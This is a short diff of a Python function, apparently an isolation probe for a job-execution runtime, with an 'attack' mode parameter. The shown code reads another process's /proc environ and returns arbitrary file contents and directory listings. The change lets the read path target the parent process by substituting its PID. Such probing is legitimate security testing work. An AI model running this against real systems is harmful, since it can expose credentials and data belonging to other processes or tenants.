@@ -140,8 +140,8 @@ def main(backend, user_messenger, attack, path="", pid=0, count=0, size=0):
             "executor": _read(f"/proc/{pid}/environ"),
             "home": os.environ.get("HOME"),
         }
-    if attack == "read":
-        return _read(path)
+    if attack == "read":  # "{parent}" stands for the job process's parent's pid
+        return _read(path.replace("{parent}", str(os.getppid())))
     if attack == "list":
         try:
             return sorted(os.listdir(path))
